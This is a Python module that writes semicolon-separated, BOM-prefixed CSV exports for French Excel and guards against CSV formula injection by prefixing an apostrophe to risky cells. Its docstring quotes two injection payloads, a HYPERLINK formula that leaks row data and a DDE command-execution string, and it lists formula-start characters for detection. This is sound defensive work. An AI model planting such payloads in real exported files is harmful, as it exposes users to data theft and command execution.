"""Files people open in a spreadsheet: CSV that French Excel reads right and that cannot attack.

Every export (the roster in chat and on the command line, any later one) is built here, so
that two rules hold for all of them:

- **No formulas.** A cell holds what a person typed (a name, a company): one that begins with
  `=`, `+`, `-`, `@`, a tab or a carriage return is taken by Excel and LibreOffice for a
  formula — `=HYPERLINK("http://…?"&D2,"…")` leaks the next rows' phone numbers when the
  coordinator clicks, `+cmd|' /C calc'!A0` runs a command. Following OWASP's CSV-injection
  guidance, such a cell is prefixed with an apostrophe, which makes it text: a phone number
  `+212…` reads `'+212…`, still a phone number to the person reading it. The full-width forms
  of the same signs are treated alike. Every cell goes through `neutralise`, not only those
  we think a person wrote: a rule with exceptions is one a later column forgets.
- **French Excel opens it in columns.** UTF-8 with a byte order mark (so that accents and
  Arabic are read right), `;` between cells (Excel in a French locale splits on `;`, not
  `,`), CRLF line ends, cells quoted only where they hold `;`, a quote or a line break.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

DELIMITER = ";"
MIME_TYPE = "text/csv"
# OWASP's list (= + - @ tab CR), and the full-width forms some spreadsheets also accept.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise(value: object) -> str:
    """A cell's text that no spreadsheet evaluates: an apostrophe before a formula's start."""
    text = "" if value is None else str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def csv_document(header: Sequence[str], rows: Iterable[Sequence[object]]) -> bytes:
    """The bytes of a CSV file with `header` and `rows`, every cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=DELIMITER, lineterminator="\r\n")
    writer.writerow([neutralise(cell) for cell in header])
    writer.writerows([neutralise(cell) for cell in row] for row in rows)
    return out.getvalue().encode("utf-8-sig")
